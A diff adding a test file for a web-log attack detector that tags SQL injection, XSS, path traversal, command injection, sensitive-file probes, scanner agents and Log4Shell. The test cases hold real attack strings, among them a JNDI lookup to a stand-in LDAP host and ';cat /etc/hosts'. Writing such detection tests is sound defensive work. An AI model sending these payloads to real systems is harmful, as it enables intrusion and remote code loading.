@@ -1,0 +1,89 @@
+import { existsSync, readFileSync } from 'node:fs';
+import { describe, expect, it } from 'vitest';
+import { attackTags } from '../../src/features/attack-tags.js';
+import { DATA, SCANNER_LOGS } from './attack-mix.js';
+import { readCombinedLog } from './combined-log.js';
+import { record } from './record.js';
+
+const PAYLOADS = `${DATA}httpparams/payload_full.csv`;
+const CLASS_TAG: Record<string, string> = { sqli: 'sql_injection', xss: 'xss', cmdi: 'command_injection', 'path-traversal': 'path_traversal' };
+
+describe('attackTags', () => {
+  it.each([
+    [{ query: 'id=1%27%20UNION%20ALL%20SELECT%20NULL%2CNULL--' }, ['sql_injection']],
+    [{ query: 'id=1/**/union/**/select/**/1' }, ['sql_injection']],
+    [{ query: 'q=%253Cscript%253Ealert(1)%253C%252Fscript%253E' }, ['xss']],
+    [{ path: '/static/..%2f..%2f..%2fetc/passwd' }, ['path_traversal', 'sensitive_file_probe']],
+    [{ path: '/a/%c0%ae%c0%ae/%c0%ae%c0%ae/boot' }, ['path_traversal']],
+    [{ query: 'host=127.0.0.1%3Bcat%20%2Fetc%2Fhosts' }, ['path_traversal', 'command_injection']],
+    [{ path: '/.env' }, ['sensitive_file_probe']],
+    [{ path: '/backup.sql' }, ['sensitive_file_probe']],
+    [{ userAgent: 'sqlmap/1.7.2#stable (https://sqlmap.org)' }, ['scanner_user_agent']],
+    [{ userAgent: '${jndi:ldap://x.example/a}' }, ['log4shell']],
+    [{ referer: '${${lower:j}ndi:ldap://x/}' }, ['log4shell']],
+    [{ path: '/index.php', query: 'acunetix_wvs_security_test=1' }, ['scanner_marker']],
+  ])('tags %o as %o', (fields, tags) => {
+    expect(attackTags(record(fields))).toEqual(tags);
+  });
+
+  it.each([
+    { path: '/images/logo.png' },
+    { path: '/search', query: 'q=select+a+color&page=2&id=5&type=shoes' },
+    { path: '/blog/2015/05/union-station-select-menu' },
+    { path: '/api/items', query: 'sort=name&order=asc&ls=1&cat=2' },
+    { path: '/docs/..hidden' },
+    { path: '/download/report.pdf', userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' },
+  ])('leaves benign %o untagged', (fields) => {
+    expect(attackTags(record(fields))).toEqual([]);
+  });
+
+  it('stays fast on pathological inputs', () => {
+    const hostile = ['<'.repeat(8000), "'".repeat(8000), '../'.repeat(3000), '/*'.repeat(4000), `<a ${'on'.repeat(4000)}`, `${'${'.repeat(3000)}`, `select ${' '.repeat(8000)}`, '%25'.repeat(3000), 'a'.repeat(100_000)];
+    const started = performance.now();
+    for (const text of hostile) {
+      attackTags(record({ path: `/${text}`, query: `q=${text}`, userAgent: text, referer: text, cookie: text }));
+    }
+    // Generous: the real cost is a few milliseconds; a backtracking blow-up costs seconds.
+    expect(performance.now() - started).toBeLessThan(1000);
+  });
+
+  it.skipIf(!existsSync(PAYLOADS))('tags the labelled HttpParams payloads with high precision and recall', () => {
+    const counts: Record<string, { tp: number; fp: number; fn: number }> = {};
+    let benignTagged = 0;
+    for (const line of readFileSync(PAYLOADS, 'utf8').split('\n').slice(1)) {
+      const match = /^"((?:[^"]|"")*)","\d+","([^"]+)","[^"]+"\r?$/.exec(line);
+      if (match === null) continue;
+      const [, payload = '', label = ''] = match;
+      const tags = attackTags(record({ path: '/search', query: `q=${encodeURIComponent(payload.replaceAll('""', '"'))}` }));
+      if (label === 'norm' && tags.length > 0) benignTagged++;
+      for (const [cls, tag] of Object.entries(CLASS_TAG)) {
+        const c = (counts[cls] ??= { tp: 0, fp: 0, fn: 0 });
+        if (tags.includes(tag)) label === cls ? c.tp++ : c.fp++;
+        else if (label === cls) c.fn++;
+      }
+    }
+    const table = Object.fromEntries(Object.entries(counts).map(([cls, c]) => [cls, { precision: +(c.tp / (c.tp + c.fp)).toFixed(3), recall: +(c.tp / (c.tp + c.fn)).toFixed(3), ...c }]));
+    console.log('attack tags on httpparams/payload_full.csv', table, { benignTagged });
+    expect(benignTagged).toBeLessThanOrEqual(5);
+    expect(table.sqli!.recall).toBeGreaterThan(0.95);
+    expect(table.xss!.recall).toBeGreaterThan(0.9);
+    expect(table['path-traversal']!.recall).toBeGreaterThan(0.8);
+    expect(table.cmdi!.recall).toBeGreaterThan(0.7);
+    for (const row of Object.values(table)) expect(row.precision).toBeGreaterThan(0.85);
+  });
+
+  // Most Acunetix lines are POSTs whose payload is in the unlogged body, and this w3af run mostly
+  // crawled, so shares differ; every scanner is tagged, and together they show most classes.
+  it.skipIf(!SCANNER_LOGS.every(existsSync))('tags real scanner lines', () => {
+    const all = new Set<string>();
+    for (const path of SCANNER_LOGS) {
+      const records = readCombinedLog(path);
+      const classes = new Set(records.flatMap((r) => attackTags(r)));
+      const share = records.filter((r) => attackTags(r).length > 0).length / records.length;
+      console.log(path.split('/').pop(), 'tagged share', share.toFixed(2), [...classes].join(','));
+      for (const tag of classes) all.add(tag);
+      expect(share).toBeGreaterThan(0.05);
+    }
+    expect([...all].sort()).toEqual(['command_injection', 'path_traversal', 'scanner_marker', 'scanner_user_agent', 'sensitive_file_probe', 'sql_injection', 'xss']);
+  });
+});
